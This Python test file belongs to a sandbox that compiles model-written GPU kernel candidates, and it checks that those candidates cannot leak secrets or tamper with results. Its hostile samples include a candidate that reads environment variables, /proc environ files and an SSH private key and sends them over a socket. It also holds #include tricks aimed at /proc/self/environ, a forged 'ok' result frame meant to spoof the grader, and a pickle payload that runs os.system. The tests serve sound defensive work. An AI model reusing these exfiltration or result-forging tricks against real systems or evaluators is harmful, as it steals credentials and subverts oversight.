"""Candidates written by a model, compiled for real (CuTe DSL children, NVRTC): what their code or
their #include lines can reach, and what reaches the compile log and cache."""

from __future__ import annotations

import os
import pickle
import socket
import struct
import threading
import time
from pathlib import Path

import pytest

from solforge.compile import compile_candidate
from solforge.compile import worker as worker_mod
from solforge.compile.cache import CompileCache
from solforge.compile.result import CompileStatus
from solforge.compile.samples import SCALE_CU, candidate, cute_candidate

from .conftest import CANARY_ENV, MARK, group_gone, leaks_in_files

try:
    import cutlass  # noqa: F401
    HAS_DSL = True
except Exception:  # noqa: BLE001
    HAS_DSL = False
needs_dsl = pytest.mark.skipif(not HAS_DSL, reason="CuTe DSL not installed")


def cute(source: str) -> dict:
    c = cute_candidate()
    c["sources"] = {"kernel.py": source}
    return c


@needs_dsl
@pytest.mark.slow
def test_cute_candidate_python_finds_no_secret_and_leaves_nothing(tmp_path):
    outside = tmp_path / "outside.txt"
    got: list[bytes] = []
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    srv.settimeout(5)
    port = srv.getsockname()[1]
    def accept():
        try:
            got.append(srv.accept()[0].recv(4096))
        except OSError:
            pass

    t = threading.Thread(target=accept, daemon=True)
    t.start()
    src = f"""
import os, glob
seen = [repr(dict(os.environ))]
for p in ['/proc/self/environ', '/proc/1/environ', os.path.expanduser('~/.ssh/id_rsa')]:
    try: seen.append(open(p, 'rb').read().decode('latin1'))
    except OSError as e: seen.append(str(e))
for p in glob.glob('/proc/[0-9]*/environ'):
    try: seen.append(open(p, 'rb').read().decode('latin1'))
    except OSError: pass
try: open({str(outside)!r}, 'w').write('x')
except OSError as e: seen.append(str(e))
try:
    import socket
    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(' '.join(seen).encode())
except Exception as e: seen.append(str(e))
raise RuntimeError(' '.join(seen))
"""
    res = compile_candidate(cute(src), "sm_90a", cache_dir=tmp_path / "cache")
    srv.close()
    assert res.status == CompileStatus.error
    assert "RuntimeError" in res.log and MARK not in res.log
    assert not outside.exists() and got == []
    assert not leaks_in_files(tmp_path / "cache")


@needs_dsl
@pytest.mark.slow
def test_cute_hang_with_a_child_holding_the_pipes_ends_at_the_timeout(monkeypatch):
    started: list[int] = []
    orig = worker_mod.Worker.__init__

    def record(self, backend):
        orig(self, backend)
        started.append(self.proc.pid)

    monkeypatch.setattr(worker_mod.Worker, "__init__", record)
    src = ("import ctypes, time\nlibc = ctypes.CDLL(None)\n"
           "if libc.fork() == 0:\n    time.sleep(600)\n"  # keeps the inherited pipes open
           "while True: pass\n")
    t0 = time.monotonic()
    res = compile_candidate(cute(src), "sm_90a", use_cache=False, timeout_s=8)
    assert res.status == CompileStatus.timeout and time.monotonic() - t0 < 40
    assert started and all(group_gone(pid) for pid in started)


@needs_dsl
@pytest.mark.slow
def test_cute_child_cannot_forge_the_workers_answer():
    """A child writing a fake 'ok' frame to every descriptor it might share with the worker."""
    fake = worker_mod.dumps({"status": "ok", "log": "forged", "cubins": {}, "entries": {}, "options": []})
    frame = struct.pack("<Q", len(fake)) + fake
    src = (f"import os\nframe = {frame!r}\n"
           "for fd in range(0, 64):\n"
           "    try: os.write(fd, frame)\n"
           "    except OSError: pass\n"
           "raise RuntimeError('the real answer')\n")
    res = compile_candidate(cute(src), "sm_90a", use_cache=False)
    # its own answer pipe is the only one it holds: the worker then reads garbage, never an 'ok'
    assert res.status == CompileStatus.error and "forged" not in res.log
    # and the worker is still sound for the next job
    assert compile_candidate(cute_candidate(), "sm_90a", use_cache=False).status == CompileStatus.ok


def test_language_other_than_asked_is_refused_before_any_python_runs(tmp_path):
    res = compile_candidate(cute("raise SystemExit('executed')"), "sm_90a", expect_language="cuda",
                            cache_dir=tmp_path / "cache")
    assert res.status == CompileStatus.invalid and "asked for a 'cuda'" in res.log
    assert "executed" not in res.log and res.compile_seconds == 0.0
    assert not (tmp_path / "cache").exists()  # a refusal is never cached


INCLUDES = {
    "absolute quoted": '#include "/proc/self/environ"\n',
    "absolute angle": "#include </proc/self/environ>\n",
    "dot-dot angle": "#include <../../../../proc/self/environ>\n",
    "macro from a param": "#include ENV_FILE\n",
    "line splice": '#inc\\\nlude "/proc/self/environ"\n',
    "comment before hash": '/* x */ # /**/ include "/proc/self/environ"\n',
    "digraph": '%:include "/proc/self/environ"\n',
    "trigraph": '??=include "/proc/self/environ"\n',
    "include_next": "#include_next </proc/self/environ>\n",
    "has_include probe": 'static_assert(__has_include("/proc/self/environ"), "x");\n',
    "string hides a comment": 'const char* s = "/*";\n#include "/proc/self/environ"\n// */\n',
}


@pytest.mark.parametrize("how", sorted(INCLUDES))
def test_include_outside_the_toolchain_is_refused_before_nvrtc(how, tmp_path):
    cand = candidate(INCLUDES[how] + SCALE_CU, "scale", params={"ENV_FILE": '"/proc/self/environ"'})
    res = compile_candidate(cand, "sm_90a", cache_dir=tmp_path / "cache")
    assert res.status == CompileStatus.invalid, res.log
    assert MARK not in res.log and not leaks_in_files(tmp_path)


def test_toolchain_and_own_headers_still_compile(tmp_path):
    src = '#include <cuda_bf16.h>\n#include "helpers.cuh"\n' + SCALE_CU
    cand = candidate(src, "scale")
    cand["sources"]["helpers.cuh"] = "#pragma once\n#define HELPER 1\n"
    assert compile_candidate(cand, "sm_90a", cache_dir=tmp_path / "cache").status == CompileStatus.ok


def test_compile_log_is_scrubbed_before_it_is_returned_or_cached(tmp_path):
    key = CANARY_ENV["GITHUB_TOKEN"]
    src = f'static_assert(false, "{key}");\n' + SCALE_CU
    res = compile_candidate(candidate(src, "scale"), "sm_90a", cache_dir=tmp_path / "cache")
    assert res.status == CompileStatus.error
    assert MARK not in res.log and "[REDACTED]" in res.log
    assert not leaks_in_files(tmp_path / "cache")
    again = compile_candidate(candidate(src, "scale"), "sm_90a", cache_dir=tmp_path / "cache")
    assert again.cache_hit and MARK not in again.log


def test_a_cache_entry_written_with_a_secret_is_served_scrubbed(tmp_path):
    res = compile_candidate(candidate(SCALE_CU, "scale"), "sm_90a", cache_dir=tmp_path / "cache")
    entry = next((tmp_path / "cache" / "compile").glob("*/*/result.json"))
    entry.write_text(entry.read_text().replace('"log": ""', f'"log": "{CANARY_ENV["AWS_SECRET_ACCESS_KEY"]}"'))
    hit = CompileCache(tmp_path / "cache").get(res.cache_key)
    assert hit is not None and MARK not in hit.log


def test_worker_frames_are_json_and_a_pickle_frame_runs_nothing(tmp_path):
    flag = tmp_path / "unpickled"

    class P:
        def __reduce__(self):
            return (os.system, (f"touch {flag}",))

    with pytest.raises(ValueError):
        worker_mod.loads(pickle.dumps(P()))
    r, w = os.pipe()
    os.write(w, struct.pack("<Q", worker_mod.MAX_FRAME_BYTES + 1))
    with pytest.raises(EOFError):
        worker_mod._recv(r, time.monotonic() + 2)
    os.close(r)
    os.close(w)
    assert not flag.exists()
    assert worker_mod.loads(worker_mod.dumps({"cubins": {"a": b"\x00\x01"}})) == {"cubins": {"a": b"\x00\x01"}}


def test_worker_environment_holds_no_secret():
    w = worker_mod.Worker("nvrtc")
    try:
        environ = Path(f"/proc/{w.proc.pid}/environ").read_bytes().decode("latin1")
    finally:
        w.kill()
    assert MARK not in environ and "HOME=" + w.home in environ
